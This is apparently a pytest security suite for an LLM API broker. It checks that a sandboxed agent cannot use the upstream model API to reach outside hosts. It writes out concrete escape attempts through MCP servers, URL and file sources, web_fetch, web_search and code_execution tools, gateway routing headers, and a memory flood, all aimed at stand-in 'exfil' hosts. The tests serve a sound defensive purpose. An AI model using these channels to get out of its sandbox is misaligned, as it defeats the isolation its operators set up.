"""The request policy: the upstream model API is not a way out of the network-less sandbox.

The upstream fetches URLs, connects to MCP servers and runs code when a request
asks it to, and a gateway in front of it routes by headers and paths. Each test
here is a real run whose root agent (the real CLI in the Docker sandbox, driven by
the scripted model) writes and runs a script that asks the broker, with the run
token, to open one such channel. Every request carries a marker; the test then
reads what the scripted upstream received: nothing with the marker may have
arrived, and the agent must have got a refusal that names what was refused and the
setting that would allow it.
"""

from __future__ import annotations

import json

import pytest
from security_support import MB, peak_rss_growth
from test_broker_attacks import CLIENT

pytestmark = pytest.mark.docker

MARK = "exfil-7f3a9c"  # in every attack request: anything upstream that holds it leaked

# The script builds the marker at run time, so the CLI's own conversation (which holds the script's
# text) never contains it: only a request the script sends can carry it upstream.
ATTACK = CLIENT + """
MARK = "exfil" + "-7f3a9c"
def root(content, model="scripted-root", **extra):
    return {"model": model, "max_tokens": 10, "messages": [{"role": "user", "content": content}], **extra}
status, body = ATTEMPT
F["status"] = status
F["error"] = (body or {}).get("error") if isinstance(body, dict) else None
save()
from llm_client import write_answer
write_answer(f"status {status}")
"""

# (what is tried, the Python expression the agent runs, the refusal expected: status, switch)
CHANNELS: dict[str, tuple[str, str, int, str | None]] = {
    "mcp_servers": (
        "a root call with `mcp_servers` naming an MCP server at an outside URL",
        'call("/v1/messages", root("use the tool", mcp_servers=[{"type": "url", "name": "x", '
        '"url": f"https://{MARK}.example/mcp"}]), headers={"anthropic-beta": "mcp-client-2025-04-04"})',
        400, "policy.allow_outbound:mcp_servers"),
    "image source.url": (
        "an image block whose source is a URL (the API downloads it)",
        'call("/v1/messages", root([{"type": "image", "source": {"type": "url", '
        '"url": f"https://{MARK}.example/a.png"}}]))',
        400, "policy.allow_outbound:url_sources"),
    "document source.url in a tool result": (
        "a document block with a URL source, nested inside a tool_result",
        'call("/v1/messages", root([{"type": "tool_result", "tool_use_id": "t1", "content": [{"type": "document", '
        '"source": {"type": "url", "url": f"https://{MARK}.example/doc.pdf"}}]}]))',
        400, "policy.allow_outbound:url_sources"),
    "system prompt source.url": (
        "an image with a URL source in the system prompt (not in messages)",
        'call("/v1/messages", root("hi", system=[{"type": "image", "source": {"type": "url", '
        '"url": f"https://{MARK}.example/s.png"}}]))',
        400, "policy.allow_outbound:url_sources"),
    "file-id source": (
        "a document block with a file-id source (files stored in the account)",
        'call("/v1/messages", root([{"type": "document", "source": {"type": "file", "file_id": f"file_{MARK}"}}]),'
        ' headers={"anthropic-beta": "files-api-2025-04-14"})',
        400, "policy.allow_outbound:file_sources"),
    "web_fetch server tool": (
        "the web_fetch server tool offered in `tools`",
        'call("/v1/messages", root(f"fetch https://{MARK}.example", tools=[{"type": "web_fetch_20250910", '
        '"name": "web_fetch"}]), headers={"anthropic-beta": "web-fetch-2025-09-10"})',
        400, "policy.allow_outbound:server_tools"),
    "web_search server tool": (
        "the web_search server tool offered in `tools`",
        'call("/v1/messages", root(f"search {MARK}", tools=[{"type": "web_search_20250305", "name": "web_search"}]))',
        400, "policy.allow_outbound:server_tools"),
    "code_execution server tool": (
        "the code_execution server tool offered in `tools`",
        'call("/v1/messages", root(f"run curl {MARK}.example", tools=[{"type": "code_execution_20250825", '
        '"name": "code_execution"}]))',
        400, "policy.allow_outbound:server_tools"),
    "versioned tool type": (
        "a tool whose `type` carries a server-tool version suffix the broker has never heard of",
        'call("/v1/messages", root("go", tools=[{"type": f"{MARK}_20991231", "name": "x"}]))',
        400, "policy.allow_outbound:server_tools"),
    "container": (
        "a `container` field (a hosted code-execution container)",
        'call("/v1/messages", root("go", container=f"container_{MARK}"))',
        400, "policy.allow_outbound:container"),
    "query string": (
        "a root call with extra query parameters (`?beta=true&target=...`)",
        'call(f"/v1/messages?beta=true&target={MARK}", root("hi"))',
        400, None),
    "files API upload": (
        "POST /v1/files through the broker (the upstream would store it with the real key)",
        'call("/v1/files", {"purpose": MARK})',
        404, None),
    "files API read": (
        "GET /v1/files/<id>/content through the broker (another run's or user's file)",
        'call(f"/v1/files/file_{MARK}/content", method="GET")',
        404, None),
    "Bedrock path on the Anthropic upstream": (
        "POST /model/<id>/converse to the Anthropic-compatible upstream",
        'call(f"/model/{MARK}/converse", root("hi"))',
        404, None),
    "another model": (
        "a root call naming a model the run was not configured with (a pricier one)",
        'call("/v1/messages", root(f"hi {MARK}", model="claude-opus-4-1"))',
        400, "policy.allowed_models"),
    "subcall url source": (
        "a subcall (/fsrlm/v1/subcall) whose message holds an image with a URL source",
        'call("/fsrlm/v1/subcall", {"messages": [{"role": "user", "content": [{"type": "image", '
        '"source": {"type": "url", "url": f"https://{MARK}.example/b.png"}}]}]})',
        400, "policy.allow_outbound:url_sources"),
}


def _leaks(scripted, mark: str = MARK) -> list[str]:
    """What the scripted upstream received that carries the marker (anywhere: path, query, headers, body)."""
    return [f"{r.method} {r.path}" for r in scripted.requests
            if mark in json.dumps([r.path, r.query, r.headers, r.body], default=str)]


@pytest.mark.parametrize("channel", list(CHANNELS))
def test_outbound_channels_are_refused(attack_run, scripted, finding, channel):
    tried, attempt, status, switch = CHANNELS[channel]
    f = finding(
        "request policy", f"the upstream as a way out: {channel}",
        tried=f"from inside the sandbox, with the run token: {tried}",
        expected=f"{status} policy_refused naming " + (f"`{switch}`" if switch else "what the broker forwards")
                 + "; nothing of it reaches the upstream",
    )
    run = attack_run(ATTACK.replace("ATTEMPT", attempt))
    found = run.findings
    assert found, run.result.errors
    assert _leaks(scripted) == [], _leaks(scripted)
    error = found["error"]
    assert found["status"] == status, found
    assert error["type"] == "policy_refused" and error["limit"] == switch, error
    assert error["message"].startswith("fsRLM broker policy: ")
    f.observed = f"{found['status']} {error['type']}: {error['message'][21:150]}; upstream saw none of it"


def test_gateway_routing_headers_are_dropped(attack_run, scripted, finding):
    f = finding(
        "request policy", "the upstream as a way out: gateway routing headers",
        tried="a root call with Helicone-Target-Url, X-Forwarded-Host, x-portkey-custom-host, x-portkey-config "
              "and an anthropic-beta value the CLI never sends, all naming an outside host",
        expected="the call is rebuilt with only content-type, anthropic-version and known anthropic-beta values: "
                 "none of those headers reaches the upstream",
    )
    attempt = ('call("/v1/messages", root("ECHO: routed"), headers={"Helicone-Target-Url": f"https://{MARK}.example",'
               ' "X-Forwarded-Host": f"{MARK}.example", "x-portkey-custom-host": f"https://{MARK}.example",'
               ' "x-portkey-config": MARK, "anthropic-beta": f"claude-code-20250219,{MARK}-2099-01-01"})')
    run = attack_run(ATTACK.replace("ATTEMPT", attempt))
    assert run.findings["status"] == 200, run.findings
    forwarded = [r for r in scripted.requests_of("subcall") if "routed" in json.dumps(r.body)]  # not the CLI's
    assert len(forwarded) == 1
    assert _leaks(scripted) == []
    assert not {"helicone-target-url", "x-forwarded-host", "x-portkey-custom-host"} & set(forwarded[0].headers)
    assert forwarded[0].headers.get("anthropic-beta") == "claude-code-20250219"
    f.observed = f"200; upstream headers: {sorted(forwarded[0].headers)}"


def test_max_tokens_is_clamped(attack_run, scripted, finding):
    f = finding(
        "request policy", "root calls asking for more output than configured",
        tried="a root call with max_tokens=10000000, with policy.max_root_output_tokens=2000",
        expected="the call goes upstream with max_tokens 2000",
    )
    attempt = 'call("/v1/messages", {**root("ECHO: long"), "max_tokens": 10_000_000})'
    run = attack_run(ATTACK.replace("ATTEMPT", attempt), policy={"max_root_output_tokens": 2000})
    assert run.findings["status"] == 200, run.findings
    sent = [r.body["max_tokens"] for r in scripted.requests_of("subcall") if "ECHO: long" in json.dumps(r.body)]
    assert sent == [2000], sent
    f.observed = f"upstream max_tokens {sent}"


def test_a_switch_opens_exactly_its_channel(attack_run, scripted, finding):
    f = finding(
        "request policy", "an outbound switch opens only its own channel",
        tried='with policy.allow_outbound = ["url_sources"]: an image with a URL source, then the web_fetch tool',
        expected="the URL source goes upstream (the documented channel), the server tool is still refused",
    )
    attempt = ('[call("/v1/messages", root([{"type": "image", "source": {"type": "url", '
               '"url": f"https://{MARK}.example/ok.png"}}])), '
               'call("/v1/messages", root("x", tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]))]')
    script = ATTACK.replace("status, body = ATTEMPT", "(s1, b1), (status, body) = ATTEMPT\nF['first'] = s1")
    run = attack_run(script.replace("ATTEMPT", attempt), policy={"allow_outbound": ["url_sources"]})
    found = run.findings
    assert found["first"] == 200 and len(_leaks(scripted)) == 1, (found, _leaks(scripted))
    assert found["status"] == 400 and found["error"]["limit"] == "policy.allow_outbound:server_tools"
    f.observed = f"url source {found['first']} (forwarded), web_fetch {found['status']} {found['error']['limit']}"


FLOOD = CLIENT + """
from concurrent.futures import ThreadPoolExecutor
big = json.dumps({"model": "not-this-run", "max_tokens": 10,
                  "messages": [{"role": "user", "content": "x" * (30 << 20)}]}).encode()
def one(i):
    return outcome(*call("/v1/messages", raw=big))
with ThreadPoolExecutor(40) as pool:
    results = Counter(pool.map(one, range(40)))
F["results"] = dict(results)
save()
from llm_client import write_answer
write_answer("flooded")
"""


def test_concurrent_large_root_requests_do_not_grow_the_orchestrator(attack_run, scripted, finding):
    f = finding(
        "broker", "40 concurrent 30 MB root requests",
        tried="40 root calls of 30 MB each sent at once through the relay",
        expected="request bodies held at once are capped (64 MB, reserved before a body is read): the "
                 "orchestrator's memory stays bounded; every call is answered",
    )
    run, growth = peak_rss_growth(lambda: attack_run(FLOOD, timeout_seconds=300))
    results = run.findings["results"]
    assert growth < 300 * MB, (growth / MB, results)  # 157 MB measured (1,564 MB before the cap)
    assert sum(results.values()) == 40 and set(results) == {"400 policy.allowed_models"}, results
    assert scripted.requests_of("subcall") == []
    f.observed = f"{results}; orchestrator RSS rose {growth / MB:.0f} MB at most"
